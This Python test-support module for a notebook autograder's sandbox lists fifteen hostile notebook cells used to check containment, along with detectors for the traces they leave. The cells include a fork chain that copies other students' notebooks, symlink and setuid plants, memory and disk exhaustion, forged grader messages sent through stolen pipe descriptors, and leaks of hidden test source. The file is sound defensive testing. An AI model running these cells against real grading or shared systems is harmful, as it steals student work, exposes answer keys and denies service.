"""Attacks on the seal itself: what a hostile notebook does to outlive, outgrow or speak for the grader.

Each is a code cell put into the blank student notebook (as the attacks of ``adversarial.py`` are),
graded with both seals and through the Gradescope emulation. They race the grader, so each run
may go differently: the suite grades them every run, and ``benchmarks/seal_attacks.py`` grades them
ten times in a row on each path. An attack that got through raises ``RuntimeError("BREACH: ...")``
or leaves a trace the tests look for (a process with ``MARKER`` in its command line, a file or IPC
object of a sandbox uid, the ``CANARY`` path, a forged message in a row).
"""

from __future__ import annotations

import os
from pathlib import Path

from tests.support.adversarial import MARKER

#: A path only root can create; an attack plants links that lead root's writes there.
CANARY = "/root/course-seal-canary"
#: Text a forged grader message carries; no row or feedback may show it.
FORGED = "ADV-CHANNEL-FORGED"
#: What the tests of a hidden test file begin with: no feedback may quote it.
HIDDEN_SOURCE_MARK = "def test_"


#: In a hostile cell: the source of the test file the kernel is running (the test driver holds it in a
#: frame's locals), which every leak below tries to carry out.
FINDS_THE_TESTS_SOURCE = '''def _hidden_source():
    frame = sys._getframe(1)
    while frame is not None:
        if "source" in frame.f_locals and isinstance(frame.f_locals["source"], str):
            return frame.f_locals["source"]
        frame = frame.f_back
    return "(no source found)"
'''


def seal_attacks() -> list[dict]:
    """[{name, expect: statuses the row may have, cell}]"""
    return [
        {"name": "fork_chain_outlives_the_kill", "expect": ("ok", "error"), "cell": f"""
import os, sys, time
# each child forks its successor and exits, faster than a kill that goes pid by pid; a second chain
# waits for the next submission graded under the same uid and copies whatever it can reach
if os.fork() == 0:
    os.setsid()
    for _ in range(10_000_000):  # bounded: a few minutes at most
        try:
            if os.fork() != 0:
                os._exit(0)
        except OSError:
            pass
    os._exit(0)
if os.fork() == 0:
    os.setsid()
    os.execvp(sys.executable, [sys.executable, "-c", '''
import glob, os, shutil, time
for _ in range(600):  # bounded: ten minutes
    for path in glob.glob(os.path.expanduser("~") + "/../../*/*/*.ipynb") + glob.glob("/tmp/**/*.ipynb", recursive=True):
        try:
            shutil.copy(path, "/tmp/stolen-" + os.path.basename(path))
        except OSError:
            pass
    time.sleep(1)
''', {MARKER!r}])
time.sleep(2)
"""},
        {"name": "leaves_files_and_ipc_where_nothing_cleans", "expect": ("ok", "error"), "cell": f"""
import ctypes, os, stat
planted = []
for place in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev/mqueue"):
    try:
        path = os.path.join(place, "course-left-behind")
        with open(path, "w") as f:
            f.write("left")
        os.chmod(path, 0o6755)  # setuid and setgid: its owner's rights to whoever runs it
        planted.append(path)
    except OSError:
        pass
for uid in range(64000, 64200):  # links and a FIFO where graders once kept their uid claims
    for folder in ("/run/lock", "/tmp", "/var/lock"):
        try:
            os.symlink({CANARY!r}, os.path.join(folder, f"course-sandbox-uid-{{uid}}.lock"))
        except OSError:
            pass
try:
    os.mkfifo("/run/lock/course-sandbox-uid-64999.lock")
except OSError:
    pass
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0, 64 << 20, 0o1666)
if segment >= 0:
    address = libc.shmat(segment, None, 0)
    ctypes.memset(address, 1, 64 << 20)
    libc.shmdt(ctypes.c_void_p(address))
libc.msgget(0, 0o1666)
libc.semget(0, 1, 0o1666)
try:
    libc.mq_open.restype = ctypes.c_int
    libc.mq_open(b"/course-left-behind", os.O_CREAT | os.O_RDWR, 0o666, None)
except AttributeError:
    pass
"""},
        {"name": "memory_in_memfds", "expect": ("memory",), "cell": """
import os, time
held = []
for _ in range(40):  # 40 memfds of 128 MB: 5 GB, each file under any file-size limit
    fd = os.memfd_create("hoard")
    for _ in range(2):
        os.write(fd, b"x" * (64 << 20))
    held.append(fd)
time.sleep(60)
"""},
        {"name": "memory_in_shared_memory_files", "expect": ("memory", "error"), "cell": """
import os, time
for n in range(40):  # /dev/shm is memory: 5 GB in files no process maps
    try:
        with open(f"/dev/shm/course-hoard-{n}", "wb") as f:
            for _ in range(2):
                f.write(b"x" * (64 << 20))
    except OSError:
        break
time.sleep(60)
"""},
        {"name": "disk_in_many_files", "expect": ("error",), "cell": """
import os, tempfile, time
for n in range(40):  # 40 files of 32 MB (1.3 GB) in its home and temp folders, each under the file-size limit
    folder = tempfile.gettempdir() if n % 2 else os.path.expanduser("~")
    try:
        with open(os.path.join(folder, f"course-fill-{n}"), "wb") as f:
            f.write(b"x" * (32 << 20))
    except OSError:
        pass
time.sleep(60)
"""},
        {"name": "forges_the_graders_channel", "expect": ("ok", "error"), "cell": f"""
import ctypes, fcntl, json, os, stat
forged = [{{"event": "cells_done", "first_error": None, "kernel_died": "out of memory {FORGED} via the watcher"}},
          {{"event": "runner_error", "error": "MemoryError: {FORGED}"}}]
lines = b"".join((json.dumps(m) + "\\n").encode() for m in forged)
libc = ctypes.CDLL(None, use_errno=True)
SYS_pidfd_open, SYS_pidfd_getfd = 434, 438
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    pidfd = libc.syscall(SYS_pidfd_open, int(pid), 0)
    for fd in range(3, 64):  # copy each descriptor out of the process, or reopen it through /proc
        copy = libc.syscall(SYS_pidfd_getfd, pidfd, fd, 0) if pidfd >= 0 else -1
        if copy < 0:
            try:
                copy = os.open(f"/proc/{{pid}}/fd/{{fd}}", os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
        try:
            if stat.S_ISFIFO(os.fstat(copy).st_mode):  # the grader's channel is a pipe
                fcntl.fcntl(copy, fcntl.F_SETFL, fcntl.fcntl(copy, fcntl.F_GETFL) | os.O_NONBLOCK)
                os.write(copy, lines)
        except OSError:
            pass
        finally:
            os.close(copy)
    if pidfd >= 0:
        os.close(pidfd)
"""},
        {"name": "quotes_the_hidden_tests_in_its_errors", "expect": ("ok", "error", "memory"), "cell": """
import sys
""" + FINDS_THE_TESTS_SOURCE + """def softmax_attention(*args, **kwargs):
    raise MemoryError(_hidden_source())
def quadratic_kernel(*args, **kwargs):
    raise ValueError(_hidden_source())
class _Leak(Exception):
    pass
def rff_attention(*args, **kwargs):
    raise _Leak(_hidden_source())
_mine = dict(softmax_attention=softmax_attention, quadratic_kernel=quadratic_kernel, rff_attention=rff_attention)
get_ipython().events.register("post_run_cell", lambda *args: globals().update(_mine))  # kept over the TODO cells
"""},
        # the watch, not the stopped runner, ends it: at the memory limit, or at the time limit when a
        # loaded machine fills the array more slowly than the limit allows
        {"name": "stops_the_runner_then_hoards", "expect": ("memory", "timeout"), "cell": """
import os, signal, time, numpy
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:  # the runner and the lifeline watcher stop: no message, no reply, no reading of stdin
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass
hoard = numpy.ones(600_000_000)  # 4.8 GB while nothing on the channel moves
time.sleep(60)
"""},
        # the kernel writes the outbox and prints the outcome lines: every field it controls carries
        # the hidden tests' source (an error record per key, a forged test name, a real name twice)
        {"name": "leaks_tests_through_every_field_it_writes", "expect": ("tampered",), "cell": """
import json, os, re, sys
""" + FINDS_THE_TESTS_SOURCE + """def _leak(*args, **kwargs):
    source = _hidden_source()
    outbox = os.environ.get("COURSE_GOLDEN_OUTBOX")
    if outbox:
        with open(outbox, "a") as f:
            for key in re.findall(r'expect(?:_between)?\\(\\s*f?"([^"]+)"', source) or ["any/key"]:
                f.write(json.dumps({"key": key, "error": source}) + "\\n")
    names = re.findall(r"def (test_\\w+)", source)
    print(json.dumps({"test": source, "passed": True, "error": source}))
    for name in names[:1]:
        print(json.dumps({"test": name, "passed": True, "error": source}))
    raise MemoryError(source)
def _install(*args):  # after every cell: the notebook's own TODO cells would replace them
    globals().update(softmax_attention=_leak, quadratic_kernel=_leak, rff_attention=_leak)
_install()
get_ipython().events.register("post_run_cell", _install)
"""},
        {"name": "memory_in_socket_buffers", "expect": ("memory",), "cell": """
import os, socket, time
def fill():  # queue data in socket pairs until the descriptors run out: up to 1 GB a process
    pairs, queued = [], 0
    for _ in range(2000):
        try:
            a, b = socket.socketpair()
            a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 20)
            a.setblocking(False)
        except OSError:
            break
        try:
            while True:
                queued += a.send(b"x" * (1 << 20))
        except OSError:
            pass
        pairs.append((a, b))
        if queued > 1 << 30:
            break
    time.sleep(60)
for _ in range(7):  # eight processes, each under its own descriptor limit: 8 GB in all
    if os.fork() == 0:
        fill()
        os._exit(0)
fill()
"""},
        {"name": "memory_in_memfds_in_flight", "expect": ("memory",), "cell": """
import os, socket, time
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
for _ in range(48):  # 48 memfds of 128 MB (6 GB) that no process holds: each is in flight, then closed
    fd = os.memfd_create("in-flight")
    try:
        for _ in range(2):
            os.write(fd, b"x" * (64 << 20))
        socket.send_fds(a, [b"m"], [fd])
    except OSError:
        pass
    os.close(fd)
time.sleep(60)
"""},
        {"name": "disk_past_path_max", "expect": ("error",), "cell": """
import os, tempfile, time
# folders of 255-character names, 30 deep (7,650 characters, past PATH_MAX), then 40 files of 32 MB
for place in (os.path.expanduser("~"), tempfile.gettempdir()):
    fd = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
    for level in range(30):
        name = str(level) * 255 if level < 10 else chr(97 + level % 26) * 255
        try:
            os.mkdir(name, dir_fd=fd)
        except FileExistsError:
            pass
        except OSError:
            break
        inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = inner
    for n in range(20):
        try:
            out = os.open(f"fill-{n}", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=fd)
            os.write(out, b"x" * (32 << 20))
            os.close(out)
        except OSError:
            pass
    os.close(fd)
time.sleep(60)
"""},
        {"name": "shared_memory_past_path_max", "expect": ("memory", "error"), "cell": """
import os, time
fd = os.open("/dev/shm", os.O_RDONLY | os.O_DIRECTORY)
for level in range(24):  # 24 folders of 255 characters (6,120), past PATH_MAX, then 5 GB of files
    name = chr(97 + level % 26) * 255
    try:
        os.mkdir(name, dir_fd=fd)
        inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
    except OSError:
        break
    os.close(fd)
    fd = inner
for n in range(40):
    try:
        out = os.open(f"hoard-{n}", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=fd)
        for _ in range(2):
            os.write(out, b"x" * (64 << 20))
        os.close(out)
    except OSError:
        break
time.sleep(60)
"""},
        {"name": "floods_the_outbox_with_one_line", "expect": ("ok", "error"), "cell": """
import os
def _flood(*args, **kwargs):
    outbox = os.environ.get("COURSE_GOLDEN_OUTBOX")
    if outbox:  # 25 MB in one line of nested empty lists: costly to parse for whoever parses it
        with open(outbox, "a") as f:
            f.write('{"key": "kernel_attention/flood", "value": [' + "[]," * (8 << 20) + '[]]}\\n')
    raise ValueError("flooded")
def _install(*args):
    globals().update(softmax_attention=_flood, quadratic_kernel=_flood, rff_attention=_flood)
_install()
get_ipython().events.register("post_run_cell", _install)
"""},
        {"name": "kernel_listens_on_tcp", "expect": ("ok", "error"), "cell": """
import json
from ipykernel.connect import get_connection_info
info = json.loads(get_connection_info())
if info.get("transport") != "ipc":  # ports on localhost: a concurrent submission could listen in
    raise RuntimeError("BREACH: the kernel listens on " + info.get("transport", "?") + " " + str(info.get("ip")))
"""},
    ]


def held_sandbox_uids() -> set[int]:
    """Sandbox uids a running grader holds now (a grader beside this one has processes under its own)."""
    from autograder.sandbox.uids import SANDBOX_UID_BASE, UID_RANGE, _lock, lock_folder

    folder, held = lock_folder(), set()
    for uid in range(SANDBOX_UID_BASE, SANDBOX_UID_BASE + UID_RANGE):
        fd = _lock(folder, uid)
        if fd is None:
            held.add(uid)
        else:
            os.close(fd)
    return held


def left_by_sandbox_uids() -> list[str]:
    """Processes (zombies aside), files in world-writable places and SysV objects of any sandbox uid
    that no grader holds now."""
    from autograder.sandbox.holdings import owned_entries, processes_of, sysv_objects
    from autograder.sandbox.uids import SANDBOX_UID_BASE, UID_RANGE, writable_places

    uids = set(range(SANDBOX_UID_BASE, SANDBOX_UID_BASE + UID_RANGE)) - held_sandbox_uids()
    left = []
    for uid in uids:
        left += [f"uid {uid}: process {pid}" for pid in processes_of(uid)]
        left += [f"uid {uid}: SysV {kind} {ident}" for kind, ident in sysv_objects(uid)]
    left += [f"uid {owner}: file {entry.path}" for entry, owner, _ in owned_entries(uids, writable_places())]
    return left


def traces() -> list[str]:
    """Everything an attack that got through would leave on the machine (what runs under a uid that
    a grader running beside this one holds is that grader's, not a trace)."""
    found = left_by_sandbox_uids()
    found += [f"process with the marker: {p}" for p in processes_with(MARKER, skip_uids=held_sandbox_uids())]
    found += [CANARY] if Path(CANARY).exists() else []
    found += [str(p) for p in Path("/tmp").glob("stolen-*")]
    return found


def processes_with(text: str, skip_uids: set[int] = frozenset()) -> list[str]:
    """Processes (but this one, and those running as one of ``skip_uids``) whose command line holds ``text``."""
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            content = cmdline.read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
            status = (cmdline.parent / "status").read_text()
        except OSError:
            continue
        uid = int(status.split("\nUid:", 1)[1].split()[0])
        if text in content and str(os.getpid()) != cmdline.parent.name and uid not in skip_uids:
            found.append(f"{cmdline.parent.name}: {content[:120]}")
    return found


def row_problems(attack: dict, row: dict, feedback_text: str) -> list[str]:
    """Why a row shows that ``attack`` got through (empty: it held)."""
    problems = []
    if row["status"] not in attack["expect"]:
        problems.append(f"status {row['status']} ({row['message'][:200]})")
    if row["total"] != 0:
        problems.append(f"scored {row['total']}")
    for text in (row["message"], feedback_text):
        if "BREACH" in text or FORGED in text or HIDDEN_SOURCE_MARK in text:
            problems.append(f"shows {text[:300]!r}")
    return problems


__all__ = ["CANARY", "FORGED", "HIDDEN_SOURCE_MARK", "seal_attacks", "held_sandbox_uids", "left_by_sandbox_uids", "traces",
           "row_problems", "processes_with"]
